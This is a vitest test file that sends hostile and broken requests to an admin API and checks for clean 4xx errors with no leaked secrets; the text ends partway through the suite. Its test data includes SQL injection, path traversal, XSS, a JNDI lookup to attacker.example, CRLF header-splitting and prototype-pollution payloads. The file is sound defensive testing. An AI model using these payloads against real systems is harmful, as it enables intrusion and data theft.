import { randomUUID } from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BACKENDS } from '../../test/support/store-backends.js';
import { create, createGraph, createTestApp, type TestApp, type TestResponse } from '../../test/support/app-harness.js';
import { LEAK_PATTERNS } from '../../test/support/error-answers.js';

/**
 * Hostile and broken requests against the admin API. Every one must get a 4xx with a JSON
 * `{code, message}` of ours, carry no stack trace, file path or secret, and leave the server
 * serving. Secret values used below all contain SECRET_MARK, so one check covers them all.
 */

const SECRET_MARK = 'S3CR3T';
const CW = '/api/v1/client-workloads';
const MIB = 1024 * 1024;
const UUID = '00000000-0000-7000-8000-000000000000';

interface Fixtures {
  clientId: string;
  credentialId: string;
}

interface BadCase {
  name: string;
  method?: string;
  url?: string | ((f: Fixtures) => string);
  /** A string is sent as-is with content-type application/json (unless `headers` says otherwise). */
  body?: unknown;
  headers?: Record<string, string>;
  /** Omitted: the bootstrap admin key; null: no Authorization header. */
  key?: string | null;
  status: number;
  code: string;
  /** The first detail's path must start with this. */
  path?: string;
}

const post = (url: string, body: unknown, extra: Partial<BadCase> = {}) => ({ method: 'POST', url, body, ...extra });
/** `depth` levels of `open`, a 1, then their `close`: `[[[1]]]`, `{"a":{"a":1}}`. */
const deep = (open: string, close: string, depth: number) => `${open.repeat(depth)}1${close.repeat(depth)}`;
const patchClient = (body: unknown) => ({ method: 'PATCH', url: (f: Fixtures) => `${CW}/${f.clientId}`, body });
const identities = [{ claim: 'kubernetes.namespace', value: 'payments' }];

const MALFORMED_JSON: BadCase[] = [
  { name: 'truncated', ...post(CW, '{"name": "a", "identities": [', {}), status: 400, code: 'invalid_json' },
  { name: 'trailing garbage', ...post(CW, '{"name": "a"} trailing'), status: 400, code: 'invalid_json' },
  { name: 'two documents', ...post(CW, '{"name": "a"}{"name": "b"}'), status: 400, code: 'invalid_json' },
  { name: 'single quotes', ...post(CW, "{'name': 'a'}"), status: 400, code: 'invalid_json' },
  { name: 'NaN', ...post('/api/v1/server-workloads', '{"name": "a", "port": NaN}'), status: 400, code: 'invalid_json' },
  { name: 'Infinity', ...post('/api/v1/server-workloads', '{"name": "a", "port": Infinity}'), status: 400, code: 'invalid_json' },
  { name: 'a comment', ...post(CW, '{"name": "a" /* hi */}'), status: 400, code: 'invalid_json' },
  { name: 'unquoted text', ...post(CW, 'hello'), status: 400, code: 'invalid_json' },
  { name: 'whitespace only', ...post(CW, '   \n'), status: 400, code: 'invalid_json' },
  {
    name: 'invalid UTF-8',
    ...post(CW, Buffer.from([0x7b, 0xff, 0xfe, 0x7d]), { headers: { 'content-type': 'application/json' } }),
    status: 400,
    code: 'invalid_json',
  },
  { name: 'truncated PATCH', ...patchClient('{"description": '), status: 400, code: 'invalid_json' },
  { name: 'empty body, content-type json (POST)', ...post(CW, ''), status: 400, code: 'invalid_json' },
  { name: 'empty body, content-type json (PATCH)', ...patchClient(''), status: 400, code: 'invalid_json' },
  // Valid JSON, but not an object: the body schema refuses it.
  { name: 'a bare string', ...post(CW, '"hello"'), status: 400, code: 'validation_failed', path: '/body' },
  { name: 'null', ...post(CW, 'null'), status: 400, code: 'validation_failed', path: '/body' },
  { name: 'an array', ...post(CW, '[{"name": "a"}]'), status: 400, code: 'validation_failed', path: '/body' },
  { name: 'a number', ...post(CW, '42'), status: 400, code: 'validation_failed', path: '/body' },
  { name: 'no body at all', method: 'POST', url: CW, status: 400, code: 'validation_failed', path: '/body' },
  { name: 'an empty PATCH object', ...patchClient({}), status: 400, code: 'validation_failed', path: '/body' },
  // Nesting is bounded before anything walks the document: no stack overflow (a 500), wherever it sits.
  { name: '10,000 nested arrays', ...post(CW, '['.repeat(10_000) + ']'.repeat(10_000)), status: 400, code: 'json_too_deep' },
  { name: '200,000 nested arrays', ...post(CW, deep('[', ']', 200_000)), status: 400, code: 'json_too_deep' },
  { name: '200,000 nested objects', ...post(CW, deep('{"":', '}', 200_000)), status: 400, code: 'json_too_deep' },
  { name: '200,000 nested arrays in a provider config', ...post('/api/v1/trust-providers', `{"name":"deep","type":"fixture-static","config":${deep('[', ']', 199_000)}}`), status: 400, code: 'json_too_deep' },
  { name: '200,000 nested objects in a provider config', ...post('/api/v1/credential-providers', `{"name":"deep","type":"api-key","config":${deep('{"":', '}', 199_000)}}`), status: 400, code: 'json_too_deep' },
  { name: '65 nested objects in a PATCH', ...patchClient(`{"description":"x","a":${deep('{"a":', '}', 64)}}`), status: 400, code: 'json_too_deep' },
];

const validClient = JSON.stringify({ name: 'media', identities });
const MEDIA_TYPES: BadCase[] = [
  ...['text/plain', 'text/plain; charset=utf-8', 'application/x-www-form-urlencoded', 'application/xml', 'application/octet-stream', 'multipart/form-data; boundary=x'].map(
    (type) => ({ name: type, ...post(CW, validClient, { headers: { 'content-type': type } }), status: 415, code: 'unsupported_media_type' }),
  ),
  { name: 'text/plain on PATCH', ...patchClient('{"description": "x"}'), headers: { 'content-type': 'text/plain' }, status: 415, code: 'unsupported_media_type' },
  {
    name: 'body over 1 MiB',
    ...post(CW, JSON.stringify({ name: 'big', identities, description: 'a'.repeat(MIB) })),
    status: 413,
    code: 'payload_too_large',
  },
];

// secure-json-parse refuses these keys outright, wherever they sit.
const POISONING: BadCase[] = [
  { name: '__proto__ at top level', body: `{"name": "p1", "identities": ${JSON.stringify(identities)}, "__proto__": {"polluted": true}}` },
  { name: 'constructor.prototype at top level', body: `{"name": "p2", "identities": ${JSON.stringify(identities)}, "constructor": {"prototype": {"polluted": true}}}` },
  { name: '__proto__ in identities[0]', body: '{"name": "p3", "identities": [{"claim": "a", "value": "b", "__proto__": {"polluted": true}}]}' },
  { name: '__proto__ in a PATCH', method: 'PATCH', url: (f: Fixtures) => `${CW}/${f.clientId}`, body: '{"__proto__": {"polluted": true}}' },
  {
    name: '__proto__ in a provider config',
    url: '/api/v1/trust-providers',
    body: '{"name": "p4", "type": "fixture-static", "config": {"subjects": ["a"], "__proto__": {"polluted": true}}}',
  },
  {
    name: '__proto__ in secrets',
    url: '/api/v1/credential-providers',
    body: `{"name": "p5", "type": "api-key", "secrets": {"__proto__": {"apiKey": "${SECRET_MARK}-proto"}}}`,
  },
].map((c) => ({ method: 'POST', url: CW, ...c, status: 400, code: 'invalid_json' }));

const UNKNOWN_FIELDS: BadCase[] = [
  { name: 'top level', ...post(CW, { name: 'u1', identities, extra: 1 }), path: '/body/extra' },
  { name: 'a server-owned field (id)', ...post(CW, { id: randomUUID(), name: 'u2', identities }), path: '/body/id' },
  { name: 'a server-owned field (createdAt)', ...post(CW, { name: 'u3', identities, createdAt: '2030-01-01T00:00:00Z' }), path: '/body/createdAt' },
  { name: 'identities[0].extra', ...post(CW, { name: 'u4', identities: [{ claim: 'a', value: 'b', extra: 1 }] }), path: '/body/identities/0/extra' },
  {
    name: 'injection.extra',
    ...post('/api/v1/server-workloads', {
      name: 'u5',
      host: 'a.example.com',
      port: 443,
      scheme: 'https',
      injection: { kind: 'header', name: 'authorization', extra: 1 },
    }),
    path: '/body/injection/extra',
  },
  {
    name: 'config.extra (checked by the provider type)',
    ...post('/api/v1/access-conditions', { name: 'u6', type: 'source-ip', config: { allow: ['10.0.0.0/8'], extra: 1 } }),
    path: '/config/extra',
  },
  { name: 'in a PATCH', ...patchClient({ description: 'x', extra: 1 }), path: '/body/extra' },
  { name: 'on a resource set', ...post('/api/v1/resource-sets', { name: 'u7', extra: 1 }), path: '/body/extra' },
  { name: 'on an admin key', ...post('/api/v1/admin-keys', { name: 'u8', role: 'auditor', resourceSetIds: ['*'], extra: 1 }), path: '/body/extra' },
  { name: 'resourceSetId on a global kind', ...post('/api/v1/resource-sets', { name: 'u9', resourceSetId: UUID }), path: '/body/resourceSetId' },
].map((c) => ({ ...c, status: 400, code: 'validation_failed' }));

/** A valid create body per kind; each wrong-type case breaks exactly one field of it. */
const VALID: Record<string, Record<string, unknown>> = {
  'client-workloads': { name: 'typed', identities },
  'server-workloads': { name: 'typed', host: 'api.example.com', port: 443, scheme: 'https', injection: { kind: 'basic' } },
  'trust-providers': { name: 'typed', type: 'fixture-static', config: { subjects: ['a'] } },
  'credential-providers': { name: 'typed', type: 'api-key', secrets: { apiKey: `${SECRET_MARK}-valid` } },
  'access-conditions': { name: 'typed', type: 'time-window', config: { timeZone: 'UTC', start: '08:00', end: '18:00' } },
  'access-policies': { name: 'typed', clientWorkloadIds: [UUID], serverWorkloadId: UUID, trustProviderIds: [UUID], credentialProviderId: UUID },
  'log-streams': { name: 'typed', type: 'file', config: { fileName: 'audit.jsonl' } },
  'resource-sets': { name: 'typed' },
  'admin-keys': { name: 'typed', role: 'auditor', resourceSetIds: ['*'] },
};

// prettier-ignore
const WRONG_TYPES: Array<[plural: string, field: string, value: unknown]> = [
  ['client-workloads', 'name', 123],
  ['client-workloads', 'description', 5],
  ['client-workloads', 'enabled', 'true'],
  ['client-workloads', 'identities', { claim: 'a', value: 'b' }],
  ['client-workloads', 'identities', 'kubernetes.namespace=payments'],
  ['client-workloads', 'identities', [{ claim: 1, value: 'b' }]],
  ['client-workloads', 'identities', []],
  ['client-workloads', 'resourceSetId', 'not-a-uuid'],
  ['client-workloads', 'resourceSetId', 42],
  ['server-workloads', 'port', '443'],
  ['server-workloads', 'port', 443.5],
  ['server-workloads', 'port', 0],
  ['server-workloads', 'port', 65536],
  ['server-workloads', 'port', null],
  ['server-workloads', 'scheme', 'ftp'],
  ['server-workloads', 'host', 123],
  ['server-workloads', 'host', ['api.example.com']],
  ['server-workloads', 'pathPrefix', 'v1'],
  ['server-workloads', 'injection', 'header'],
  ['server-workloads', 'injection', []],
  ['server-workloads', 'injection', { kind: 'header' }],
  ['server-workloads', 'injection', { kind: 'teleport' }],
  // A header value the SDK could never send (or one that splits the request) is refused when written.
  ['server-workloads', 'injection', { kind: 'header', name: 'authorization', format: 'Bearer {token}\r\nX-Injected: 1' }],
  ['server-workloads', 'injection', { kind: 'header', name: 'authorization', format: 'Bearer {token}\n' }],
  ['server-workloads', 'injection', { kind: 'header', name: 'authorization', format: '\u0000{token}' }],
  ['server-workloads', 'injection', { kind: 'header', name: 'authorization', format: 'Jeton \u00e9 {token}' }],
  ['trust-providers', 'type', 5],
  ['trust-providers', 'config', []],
  ['trust-providers', 'config', 'issuer=https://example.com'],
  ['trust-providers', 'rules', { claim: 'a', value: 'b' }],
  ['trust-providers', 'rules', [{ claim: 'a' }]],
  ['credential-providers', 'config', 'x'],
  ['credential-providers', 'secrets', []],
  ['credential-providers', 'secrets', `${SECRET_MARK}-as-a-string`],
  ['credential-providers', 'secrets', { apiKey: 123 }],
  ['access-conditions', 'type', ['time-window']],
  ['access-conditions', 'config', null],
  ['access-policies', 'clientWorkloadIds', UUID],
  ['access-policies', 'clientWorkloadIds', ['not-a-uuid']],
  ['access-policies', 'clientWorkloadIds', [UUID, UUID]],
  ['access-policies', 'serverWorkloadId', [UUID]],
  ['access-policies', 'trustProviderIds', []],
  ['access-policies', 'accessConditionIds', {}],
  ['access-policies', 'credentialProviderId', 7],
  ['log-streams', 'type', null],
  ['log-streams', 'config', 5],
  ['resource-sets', 'name', { first: 'a' }],
  ['resource-sets', 'description', ['a']],
  ['admin-keys', 'role', 'root'],
  ['admin-keys', 'role', 1],
  ['admin-keys', 'resourceSetIds', '*'],
  ['admin-keys', 'resourceSetIds', []],
  ['admin-keys', 'resourceSetIds', ['*', UUID]],
  ['admin-keys', 'expiresAt', 'tomorrow'],
  ['admin-keys', 'expiresAt', 0],
];

const WRONG_TYPE_CASES: BadCase[] = WRONG_TYPES.map(([plural, field, value]) => ({
  name: `${plural} ${field} = ${JSON.stringify(value)}`,
  ...post(`/api/v1/${plural}`, { ...VALID[plural], [field]: value }),
  status: 400,
  code: 'validation_failed',
  path: `/body/${field}`,
}));

const LENGTHS: BadCase[] = [
  { name: 'name of 129 characters', ...post(CW, { name: 'n'.repeat(129), identities }), path: '/body/name' },
  { name: 'description of 1025 characters', ...post(CW, { name: 'long', description: 'd'.repeat(1025), identities }), path: '/body/description' },
  { name: '10,000 identities', ...post(CW, { name: 'many', identities: Array.from({ length: 10_000 }, () => identities[0]) }), path: '/body/identities' },
  { name: 'identity value of 513 characters', ...post(CW, { name: 'v', identities: [{ claim: 'a', value: 'v'.repeat(513) }] }), path: '/body/identities/0/value' },
  {
    name: 'host of 254 characters',
    ...post('/api/v1/server-workloads', { ...VALID['server-workloads'], host: `${'h'.repeat(250)}.com` }),
    path: '/body/host',
  },
  { name: 'secret of 65,537 characters', ...post('/api/v1/credential-providers', { name: 's', type: 'api-key', secrets: { apiKey: SECRET_MARK.repeat(10_923) } }), path: '/body/secrets/apiKey' },
  { name: 'name filter of 10,000 characters', method: 'GET', url: `${CW}?name=${'n'.repeat(10_000)}`, path: '/querystring/name' },
].map((c) => ({ ...c, status: 400, code: 'validation_failed' }));

/** Globs a backtracking matcher would choke on: more wildcards than MAX_GLOB_WILDCARDS (8). */
const NINE_WILDCARDS = '*a*a*a*a*a*a*a*a*b';
const GLOBS: BadCase[] = [
  { name: 'client identity with 9 wildcards', ...post(CW, { name: 'glob1', identities: [{ claim: 'a', value: NINE_WILDCARDS }] }), path: '/identities/0/value' },
  {
    name: 'client identity with 9 wildcards, the second of two',
    ...post(CW, { name: 'glob2', identities: [identities[0], { claim: 'b', value: `x${'**y'.repeat(9)}` }] }),
    path: '/identities/1/value',
  },
  { name: 'client identity with 9 wildcards in a PATCH', ...patchClient({ identities: [{ claim: 'a', value: NINE_WILDCARDS }] }), path: '/identities/0/value' },
  {
    name: 'trust provider rule with 9 wildcards',
    ...post('/api/v1/trust-providers', { ...VALID['trust-providers'], name: 'glob3', rules: [{ claim: 'a', value: NINE_WILDCARDS }] }),
    path: '/rules/0/value',
  },
].map((c) => ({ ...c, status: 400, code: 'validation_failed' }));

const HOSTILE_NAMES = [
  "'; DROP TABLE objects;--",
  "' OR '1'='1",
  '../../etc/passwd',
  '..',
  '<script>alert(1)</script>',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  'rocket-🚀',
  'invoice\u202Egpj.exe',
  'nul\u0000byte',
  'line\nbreak',
  'trailing-newline\n',
  'with space',
  '',
  '-leading-dash',
  '.leading-dot',
  'ｆｕｌｌｗｉｄｔｈ',
  'café',
  'a/b',
  'a%2Fb',
  'x\ud800',
];

const NAMES: BadCase[] = [
  ...HOSTILE_NAMES.map((name) => ({ name: `client workload named ${JSON.stringify(name)}`, ...post(CW, { name, identities }) })),
  { name: 'resource set named <script>', ...post('/api/v1/resource-sets', { name: '<script>' }) },
  { name: 'admin key named with an RTL override', ...post('/api/v1/admin-keys', { name: 'key\u202E', role: 'auditor', resourceSetIds: ['*'] }) },
  { name: 'rename to an SQL injection', ...patchClient({ name: "x'; DELETE FROM objects;--" }) },
].map((c) => ({ ...c, status: 400, code: 'validation_failed', path: '/body/name' }));

const UNICODE_ELSEWHERE: BadCase[] = [
  // A lone surrogate has no UTF-8 form: the stores would silently keep U+FFFD instead.
  { name: 'description with a lone surrogate', ...post(CW, { name: 'lone1', description: 'x\ud800y', identities }), path: '/description' },
  { name: 'claim value with a lone surrogate', ...post(CW, { name: 'lone2', identities: [{ claim: 'a', value: '\udc00' }] }), path: '/identities/0/value' },
  {
    name: 'secret with a lone surrogate',
    ...post('/api/v1/credential-providers', { name: 'lone3', type: 'api-key', secrets: { apiKey: `${SECRET_MARK}\ud800` } }),
    path: '/secrets/apiKey',
  },
  { name: 'description with a NUL byte', ...post(CW, { name: 'nul', description: 'a\u0000b', identities }), path: '/body/description' },
  { name: 'description with an escape sequence', ...post(CW, { name: 'esc', description: '\u001b[2J', identities }), path: '/body/description' },
  { name: 'name filter with an SQL injection', method: 'GET', url: `${CW}?name=${encodeURIComponent("' OR 1=1 --")}`, path: '/querystring/name' },
].map((c) => ({ ...c, status: 400, code: 'validation_failed' }));

const IDS: BadCase[] = [
  { name: 'GET not-a-uuid', method: 'GET', url: `${CW}/not-a-uuid`, status: 400, code: 'invalid_id' },
  { name: 'PATCH not-a-uuid', method: 'PATCH', url: `${CW}/not-a-uuid`, body: { description: 'x' }, status: 400, code: 'invalid_id' },
  { name: 'DELETE not-a-uuid', method: 'DELETE', url: `${CW}/not-a-uuid`, status: 400, code: 'invalid_id' },
  { name: 'encoded ../../etc/passwd', method: 'GET', url: `${CW}/..%2F..%2Fetc%2Fpasswd`, status: 400, code: 'invalid_id' },
  { name: 'encoded NUL', method: 'GET', url: `${CW}/%00`, status: 400, code: 'invalid_id' },
  { name: 'SQL injection', method: 'GET', url: `${CW}/${encodeURIComponent("' OR 1=1 --")}`, status: 400, code: 'invalid_id' },
  { name: 'a UUID and one more character', method: 'GET', url: `${CW}/${UUID}0`, status: 400, code: 'invalid_id' },
  { name: '199 characters (the longest the router hands on)', method: 'GET', url: `${CW}/${'a'.repeat(199)}`, status: 400, code: 'invalid_id' },
  // URL parsing resolves dot segments first: this asks for /api/v1/, which is no route.
  { name: 'plain ../', method: 'GET', url: `${CW}/../`, status: 404, code: 'not_found' },
  { name: 'GET a UUID that does not exist', method: 'GET', url: `${CW}/${UUID}`, status: 404, code: 'not_found' },
  { name: 'PATCH a UUID that does not exist', method: 'PATCH', url: `${CW}/${UUID}`, body: { description: 'x' }, status: 404, code: 'not_found' },
  { name: 'DELETE a UUID that does not exist', method: 'DELETE', url: `${CW}/${UUID}`, status: 404, code: 'not_found' },
  { name: 'an id of another kind', method: 'GET', url: (f) => `/api/v1/server-workloads/${f.clientId}`, status: 404, code: 'not_found' },
];

const REFUSED_CREDENTIALS: Array<[name: string, authorization: string]> = [
  ['Basic credentials', 'Basic YWRtaW46YWRtaW4='],
  ['Bearer with nothing', 'Bearer'],
  ['Bearer with spaces only', 'Bearer      '],
  ['Bearer with a space inside the key', 'Bearer tsk_abcdefgh ijklmnopqrstuvwxyz'],
  ['Bearer with unicode', 'Bearer tsk_ключключключключключ'],
  ['a 10,000-character token', `Bearer ${'A'.repeat(10_000)}`],
  ['a 1 MiB token', `Bearer ${'A'.repeat(MIB)}`],
  ['a valid-looking tsk_ key that does not exist', `Bearer tsk_${'A'.repeat(43)}`],
];

const AUTH: BadCase[] = [
  { name: 'no Authorization header', method: 'GET', url: CW, key: null, status: 401, code: 'unauthorized' },
  { name: 'an empty Authorization header', method: 'GET', url: CW, key: null, headers: { authorization: '' }, status: 401, code: 'unauthorized' },
  ...REFUSED_CREDENTIALS.map(([name, authorization]) => ({
    name,
    method: 'GET',
    url: CW,
    key: null,
    headers: { authorization },
    status: 401,
    code: 'unauthorized',
  })),
  // Authentication comes before the body is read: neither 413 nor 400 here.
  { name: 'no key, body over 1 MiB', ...post(CW, JSON.stringify({ name: 'big', description: 'a'.repeat(2 * MIB) })), key: null, status: 401, code: 'unauthorized' },
  { name: 'no key, malformed JSON', ...post(CW, '{"name": '), key: null, status: 401, code: 'unauthorized' },
  { name: 'unknown key, body over 1 MiB', ...post(CW, 'x'.repeat(2 * MIB)), key: `tsk_${'B'.repeat(43)}`, status: 401, code: 'unauthorized' },
];

const METHODS: BadCase[] = [
  { name: 'PUT on a collection', method: 'PUT', url: CW, body: { name: 'x' } },
  { name: 'DELETE on a collection', method: 'DELETE', url: CW },
  { name: 'PATCH on a collection', method: 'PATCH', url: CW, body: { name: 'x' } },
  { name: 'PUT on an object', method: 'PUT', url: `${CW}/${UUID}`, body: { name: 'x' } },
  { name: 'POST on an object', method: 'POST', url: `${CW}/${UUID}`, body: { name: 'x' } },
  { name: 'GET on rotate', method: 'GET', url: '/api/v1/signing-keys/rotate' },
  { name: 'OPTIONS', method: 'OPTIONS', url: CW },
  { name: 'an unknown kind', method: 'GET', url: '/api/v1/secrets' },
].map((c) => ({ ...c, status: 404, code: 'not_found' }));

const cursorOf = (text: string) => Buffer.from(text).toString('base64url');
const QUERIES: BadCase[] = [
  { name: 'unknown parameter', url: `${CW}?foo=bar`, path: '/querystring/foo' },
  { name: 'limit=-1', url: `${CW}?limit=-1`, path: '/querystring/limit' },
  { name: 'limit=abc', url: `${CW}?limit=abc`, path: '/querystring/limit' },
  { name: 'limit=99999', url: `${CW}?limit=99999`, path: '/querystring/limit' },
  { name: 'limit=1.5', url: `${CW}?limit=1.5`, path: '/querystring/limit' },
  { name: 'limit= (empty)', url: `${CW}?limit=`, path: '/querystring/limit' },
  { name: 'limit given twice', url: `${CW}?limit=1&limit=2`, path: '/querystring/limit' },
  { name: 'resourceSetId not a UUID', url: `${CW}?resourceSetId=default`, path: '/querystring/resourceSetId' },
  { name: 'resourceSetId on a global kind', url: `/api/v1/admin-keys?resourceSetId=${UUID}`, path: '/querystring/resourceSetId' },
  { name: 'cursor of 100 characters', url: `${CW}?cursor=${'A'.repeat(100)}`, path: '/querystring/cursor' },
  { name: 'audit events: unknown parameter', url: '/api/v1/audit-events?secret=1', path: '/querystring/secret' },
  { name: 'audit events: since=yesterday', url: '/api/v1/audit-events?since=yesterday', path: '/querystring/since' },
  { name: 'audit events: outcome=maybe', url: '/api/v1/audit-events?outcome=maybe', path: '/querystring/outcome' },
  { name: 'audit events: limit=-1', url: '/api/v1/audit-events?limit=-1', path: '/querystring/limit' },
].map((c) => ({ ...c, method: 'GET', status: 400, code: 'validation_failed' }));

const CURSORS: BadCase[] = [
  { name: 'not base64url', url: `${CW}?cursor=!!!` },
  { name: 'base64url of something else', url: `${CW}?cursor=${cursorOf('not-a-uuid')}` },
  { name: "base64url of an SQL injection", url: `${CW}?cursor=${cursorOf("' OR 1=1 --")}` },
  { name: 'audit events: not base64url', url: '/api/v1/audit-events?cursor=%7B%7D' },
  { name: 'audit events: base64url of something else', url: `/api/v1/audit-events?cursor=${cursorOf('x')}` },
].map((c) => ({ ...c, method: 'GET', status: 400, code: 'invalid_cursor' }));

/** The secrets of credential providers and log streams must never come back, not even in an error. */
const SECRET_ECHO: BadCase[] = [
  {
    name: 'an unknown secret field',
    ...post('/api/v1/credential-providers', { name: 'e1', type: 'api-key', secrets: { apiKey: `${SECRET_MARK}-1`, extra: `${SECRET_MARK}-2` } }),
    path: '/secrets/extra',
  },
  {
    name: 'a secret too long for its type',
    ...post('/api/v1/credential-providers', { name: 'e2', type: 'basic', config: { username: 'u' }, secrets: { password: SECRET_MARK.repeat(2000) } }),
    path: '/secrets/password',
  },
  {
    name: 'a valid secret beside an invalid name',
    ...post('/api/v1/credential-providers', { name: 'bad name', type: 'api-key', secrets: { apiKey: `${SECRET_MARK}-3` } }),
    path: '/body/name',
  },
  {
    name: 'a valid secret beside an invalid config',
    ...post('/api/v1/credential-providers', { name: 'e4', type: 'api-key', config: { region: 'x' }, secrets: { apiKey: `${SECRET_MARK}-4` } }),
    path: '/config/region',
  },
  {
    name: 'secrets for a type that takes none',
    ...post('/api/v1/log-streams', { name: 'e5', type: 'file', config: { fileName: 'a.jsonl' }, secrets: { token: `${SECRET_MARK}-5` } }),
    path: '/secrets/token',
  },
  {
    name: 'a webhook secret beside an unknown secret field',
    ...post('/api/v1/log-streams', {
      name: 'e6',
      type: 'webhook',
      config: { url: 'https://siem.example.com/in' },
      secrets: { authorization: `Splunk ${SECRET_MARK}-6`, other: `${SECRET_MARK}-7` },
    }),
    path: '/secrets/other',
  },
  {
    name: 'a PATCH with an unknown secret field',
    method: 'PATCH',
    url: (f: Fixtures) => `/api/v1/credential-providers/${f.credentialId}`,
    body: { secrets: { apiKey: `${SECRET_MARK}-8`, nope: `${SECRET_MARK}-9` } },
    path: '/secrets/nope',
  },
].map((c) => ({ ...c, status: 400, code: 'validation_failed' }));

const GROUPS: Record<string, BadCase[]> = {
  'malformed JSON': MALFORMED_JSON,
  'media type and size': MEDIA_TYPES,
  'prototype poisoning': POISONING,
  'unknown fields': UNKNOWN_FIELDS,
  'wrong types': WRONG_TYPE_CASES,
  'absurd lengths': LENGTHS,
  globs: GLOBS,
  'hostile names': NAMES,
  'other strings': UNICODE_ELSEWHERE,
  'ids in the path': IDS,
  authentication: AUTH,
  'unsupported methods': METHODS,
  'query strings': QUERIES,
  cursors: CURSORS,
  'secrets in refused writes': SECRET_ECHO,
};

describe.each(BACKENDS)('bad input ($name)', (backend) => {
  let t: TestApp;
  let fixtures: Fixtures;
  /** Values that must never appear in an answer. */
  let secrets: string[];

  beforeAll(async () => {
    t = await createTestApp(backend);
    const graph = await createGraph(t);
    const editor = await create(t, 'admin-keys', { name: 'an-editor', role: 'editor', resourceSetIds: ['*'] });
    fixtures = { clientId: graph.client.id, credentialId: graph.credential.id };
    secrets = [SECRET_MARK, t.rootKey, editor.key, '_do_not_leak'];
  });
  afterAll(async () => {
    await t?.close();
  });

  function expectCleanError(response: TestResponse, status: number, code: string): void {
    expect(response.status, response.raw.slice(0, 500)).toBe(status);
    expect(String(response.headers['content-type'])).toMatch(/^application\/json/);
    expect(response.body).toMatchObject({ code, message: expect.stringMatching(/\S/) });
    expect(Object.keys(response.body).every((field) => ['code', 'message', 'details'].includes(field))).toBe(true);
    for (const leak of LEAK_PATTERNS) expect(response.raw).not.toMatch(leak);
    for (const secret of secrets) expect(response.raw).not.toContain(secret);
    if (status === 401) expect(response.headers['www-authenticate']).toBe('Bearer');
  }

  async function expectStillServing(): Promise<void> {
    const response = await t.call('GET', `${CW}?limit=1`);
    expect(response.status).toBe(200);
    expect(Object.prototype).not.toHaveProperty('polluted');
    expect(Object.prototype).not.toHaveProperty('apiKey');
  }

  const cases = Object.entries(GROUPS).flatMap(([group, list]) => list.map((c) => ({ ...c, group })));

  it.each(cases)('$group: $name → $status $code', async (c) => {
    const url = typeof c.url === 'function' ? c.url(fixtures) : (c.url ?? CW);
    const response = await t.call(c.method ?? 'POST', url, {
      ...(c.key === undefined ? {} : { key: c.key }),
      ...(c.body === undefined ? {} : { body: c.body }),
      ...(c.headers ? { headers: c.headers } : {}),
    });
    expectCleanError(response, c.status, c.code);
    if (c.path !== undefined) expect(response.body.details?.[0]?.path, JSON.stringify(response.body.details)).toMatch(new RegExp(`^${escapeRegExp(c.path)}`));
    await expectStillServing();
  });

  it('refused writes leave nothing behind', async () => {
    for (const name of ['p1', 'p2', 'p3', 'u1', 'lone1', 'media', 'big', 'glob1', 'glob2']) {
      expect((await t.call('GET', `${CW}?name=${name}`)).body.items, name).toEqual([]);
    }
    const client = (await t.call('GET', `${CW}/${fixtures.clientId}`)).body;
    expect(client.description).toBe('');
    expect(client.identities).toEqual([{ claim: 'kubernetes.namespace', value: 'payments' }]);
  });

  it('the valid bodies the wrong-type cases start from are accepted', async () => {
    for (const [plural, body] of Object.entries(VALID)) {
      const response = await t.call('POST', `/api/v1/${plural}`, { body });
      // The policy's ids are well-formed but name nothing: past the schema, the references fail.
      if (plural === 'access-policies') expect(response.body.code, plural).toBe('invalid_reference');
      else expect(response.status, `${plural}: ${response.raw}`).toBe(201);
    }
  });

  it('takes the Bearer scheme in any case (RFC 9110), on every kind of admin route', async () => {
    for (const scheme of ['bearer', 'BEARER', 'BeArEr', 'Bearer ']) {
      const headers = { authorization: `${scheme} ${t.rootKey}` };
      for (const url of [CW, '/api/v1/audit-events?limit=1', '/api/v1/signing-keys', '/api/v1/resource-sets']) {
        const response = await t.call('GET', url, { key: null, headers });
        expect(response.status, `${scheme} ${url}: ${response.raw}`).toBe(200);
      }
      const created = await t.call('POST', CW, { key: null, headers, body: { name: `scheme-${scheme.trim()}-${randomUUID().slice(0, 8)}`, identities } });
      expect(created.status, created.raw).toBe(201);
    }
  });

  it('answers every refused credential with the same 401', async () => {
    const disabled = await create(t, 'admin-keys', { name: 'disabled', role: 'admin', resourceSetIds: ['*'] });
    await t.call('PATCH', `/api/v1/admin-keys/${disabled.id}`, { body: { enabled: false } });
    const expired = await create(t, 'admin-keys', { name: 'expired', role: 'admin', resourceSetIds: ['*'], expiresAt: '2001-01-01T00:00:00Z' });
    const deleted = await create(t, 'admin-keys', { name: 'deleted', role: 'admin', resourceSetIds: ['*'] });
    await t.call('DELETE', `/api/v1/admin-keys/${deleted.id}`);
    const authorizations = [
      ...REFUSED_CREDENTIALS.map(([, authorization]) => authorization),
      `Bearer ${disabled.key}`,
      `Bearer ${expired.key}`,
      `Bearer ${deleted.key}`,
      `Bearer ${t.rootKey}x`,
      `bearer ${t.rootKey.slice(0, -1)}`,
    ];
    const answers = await Promise.all(authorizations.map((authorization) => t.call('GET', CW, { key: null, headers: { authorization } })));
    for (const answer of answers) {
      expectCleanError(answer, 401, 'unauthorized');
      expect(answer.body).toEqual(answers[0]!.body);
    }
    for (const key of [disabled.key, expired.key, deleted.key]) for (const answer of answers) expect(answer.raw).not.toContain(key);
  });

  it('accepts unicode and injection-shaped text where free text is allowed, and returns it exactly', async () => {
    const description = "Zürich 🚀 👩🏽‍💻 日本語 مرحبا \u202Eevil\u202C\ttab\nline '; DROP TABLE objects;-- <script>alert(1)</script> \"q\" \\ ${x}";
    const value = "' OR 1=1 -- 🚀 \u202E";
    const created = await create(t, 'client-workloads', {
      name: 'unicode-ok',
      description,
      identities: [{ claim: 'kubernetes.namespace', value }],
    });
    expect(created).toMatchObject({ description, identities: [{ value }] });
    const read = await t.call('GET', `${CW}/${created.id}`);
    expect(read.body).toEqual(created);
    const listed = await t.call('GET', `${CW}?name=unicode-ok`);
    expect(listed.body.items).toEqual([created]);
    const patched = await t.call('PATCH', `${CW}/${created.id}`, { body: { description: `${description} ✓` } });
    expect(patched.body.description).toBe(`${description} ✓`);
    expect((await t.call('GET', `${CW}/${created.id}`)).body.description).toBe(`${description} ✓`);
    // The limits themselves are inclusive.
    const longest = await create(t, 'client-workloads', { name: 'n'.repeat(128), description: '∑'.repeat(1024), identities });
    expect((await t.call('GET', `${CW}/${longest.id}`)).body).toMatchObject({ name: 'n'.repeat(128), description: '∑'.repeat(1024) });
  });

